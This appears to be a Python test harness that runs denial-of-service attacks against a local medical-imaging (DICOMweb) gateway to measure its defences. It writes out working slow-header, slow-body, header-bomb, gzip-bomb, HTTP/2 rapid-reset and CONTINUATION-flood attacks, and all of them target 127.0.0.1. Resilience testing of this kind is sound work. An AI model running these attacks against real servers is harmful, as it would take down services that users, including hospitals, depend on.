"""What attackers send. Each attack continues for some seconds, and counts what the gateway did about it."""

import asyncio
import gzip
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field

import h2.config
import h2.connection
from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
_HOST = b"host: gateway\r\n"


PATIENCE_S = 60
"""How long after the end of an attack the gateway may take to do something about it, on a busy machine."""


@dataclass
class Target:
    """The gateway, and what an attacker who is admitted would need: a key, and the path of something large.

    An attack lasts for so many seconds, and continues until `outcome` was counted, if that is given.
    """

    port: int
    key: str
    large_path: str
    seconds: float
    connections: int
    outcome: str = ""
    outcomes: Counter[str] = field(default_factory=Counter)


type Attack = Callable[[Target], Awaitable[None]]


async def slow_headers(target: Target) -> None:
    """A header line a second, and never the last."""

    async def one() -> None:
        async with opened(target) as (reader, writer):
            writer.write(b"GET /dicom-web/studies HTTP/1.1\r\n" + _HOST)
            await drip(target, reader, writer, b"x-slow: 1\r\n")

    await many(target, one)


async def slow_body(target: Target) -> None:
    """A byte of a JSON body a second."""

    async def one() -> None:
        async with opened(target) as (reader, writer):
            writer.write(b"POST /api/v1/tenants HTTP/1.1\r\n" + _HOST + b"content-length: 100000\r\n\r\n")
            await drip(target, reader, writer, b" ")

    await many(target, one)


async def slow_upload(target: Target) -> None:
    """The same for an instance that is stored, of a client without a key."""

    async def one() -> None:
        async with opened(target) as (reader, writer):
            kind = b'content-type: multipart/related; type="application/dicom"; boundary=b\r\n'
            writer.write(b"POST /dicom-web/studies HTTP/1.1\r\n" + _HOST + kind + b"content-length: 100000\r\n\r\n")
            await drip(target, reader, writer, b" ")

    await many(target, one)


async def slow_reader(target: Target) -> None:
    """A key that asks for a whole study, and then reads a KiB a second."""

    async def one() -> None:
        async with opened(target, limit=1024) as (reader, writer):
            lines = f"authorization: Bearer {target.key}\r\naccept: multipart/related; type=application/dicom\r\n\r\n"
            writer.write(f"GET {target.large_path} HTTP/1.1\r\n".encode() + _HOST + lines.encode())
            status = await reader.readline()
            target.outcomes[f"answered {status.split()[1].decode()}"] += 1
            while await reader.read(1024):
                await asyncio.sleep(1)

    await many(target, one)


async def header_bomb(target: Target) -> None:
    """Thousands of headers, and headers of hundreds of KiB, over and over."""
    bombs = (b"".join(b"x-%d: 1\r\n" % number for number in range(5000)), b"x-large: " + b"a" * 500_000 + b"\r\n")

    async def one() -> None:
        for bomb in bombs * 1000:
            async with opened(target) as (reader, writer):
                writer.write(b"GET /dicom-web/studies HTTP/1.1\r\n" + _HOST + bomb + b"\r\n")
                await answer(target, reader)

    await many(target, one)


async def rapid_reset(target: Target) -> None:
    """HTTP/2 streams that are reset as soon as they are begun (CVE-2023-44487)."""
    headers = request_headers()

    async def one() -> None:
        while True:
            async with opened(target) as (reader, writer):
                writer.write(PREFACE)
                for number in range(1, 20_001, 2):
                    opening = HeadersFrame(number, headers, flags=["END_HEADERS", "END_STREAM"])
                    writer.write(opening.serialize() + RstStreamFrame(number, error_code=8).serialize())
                    target.outcomes["streams begun and reset"] += 1
                    await writer.drain()
                await answer(target, reader)

    await many(target, one)


async def continuation_flood(target: Target) -> None:
    """An HTTP/2 header block that never ends (CVE-2024-27316)."""
    piece = b"\x00\x07x-again\x7f\x81\x1f" + b"a" * 286  # a literal header of HPACK, 286 bytes long

    async def one() -> None:
        while True:
            async with opened(target) as (reader, writer):
                writer.write(PREFACE + HeadersFrame(1, request_headers()).serialize())
                for _ in range(10_000):
                    writer.write(ContinuationFrame(1, piece * 50).serialize())
                    target.outcomes["continuations"] += 1
                    await writer.drain()
                await answer(target, reader)

    await many(target, one)


async def gzip_bomb(target: Target) -> None:
    """Zeros, packed to a thousandth, to be stored."""
    bomb = gzip.compress(bytes(1 << 27), 9)

    async def one() -> None:
        while True:
            async with opened(target) as (reader, writer):
                kind = b'content-type: multipart/related; type="application/dicom"; boundary=b\r\n'
                length = b"content-encoding: gzip\r\ncontent-length: %d\r\n" % len(bomb)
                key = f"authorization: Bearer {target.key}\r\n".encode()
                writer.write(b"POST /dicom-web/studies HTTP/1.1\r\n" + _HOST + key + kind + length + b"\r\n" + bomb)
                await answer(target, reader)

    await many(target, one)


ATTACKS: Mapping[str, Attack] = {
    "slow headers": slow_headers,
    "slow body": slow_body,
    "slow upload": slow_upload,
    "slow reader": slow_reader,
    "header bomb": header_bomb,
    "rapid reset": rapid_reset,
    "continuation flood": continuation_flood,
    "gzip bomb": gzip_bomb,
}


async def many(target: Target, one: Callable[[], Awaitable[None]]) -> None:
    """As many attackers as there are connections; each begins again when it is thrown out, until the time is over."""

    async def again() -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError, IndexError):
                await one()
            await asyncio.sleep(0.1)

    async with asyncio.TaskGroup() as group:
        attackers = [group.create_task(again()) for _ in range(target.connections)]
        await asyncio.sleep(target.seconds)
        with suppress(TimeoutError):
            async with asyncio.timeout(PATIENCE_S):
                while target.outcome and not target.outcomes[target.outcome]:
                    await asyncio.sleep(0.1)
        for attacker in attackers:
            attacker.cancel()


@asynccontextmanager
async def opened(
    target: Target, *, limit: int = 1 << 16
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """A connection, counted with how it ends."""
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", target.port, limit=limit)
    except OSError:
        target.outcomes["refused connections"] += 1
        raise
    target.outcomes["connections"] += 1
    try:
        yield reader, writer
    except OSError:
        target.outcomes["cut by the gateway"] += 1
        raise
    finally:
        writer.transport.abort()


async def drip(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, piece: bytes) -> None:
    """Send a piece a second until the gateway answers."""
    answered = asyncio.create_task(answer(target, reader))
    try:
        while not answered.done():
            writer.write(piece)
            await asyncio.wait([answered], timeout=1)
    finally:
        answered.cancel()


async def answer(target: Target, reader: asyncio.StreamReader) -> None:
    """Count the status of an answer, or that the connection was cut."""
    try:
        line = await reader.readline()
    except OSError:
        line = b""
    target.outcomes[f"answered {line.split()[1].decode()}" if line else "cut by the gateway"] += 1


def request_headers() -> bytes:
    """A GET as HPACK."""
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    headers = [(":method", "GET"), (":path", "/dicom-web/studies"), (":scheme", "http"), (":authority", "gateway")]
    return connection.encoder.encode(headers)
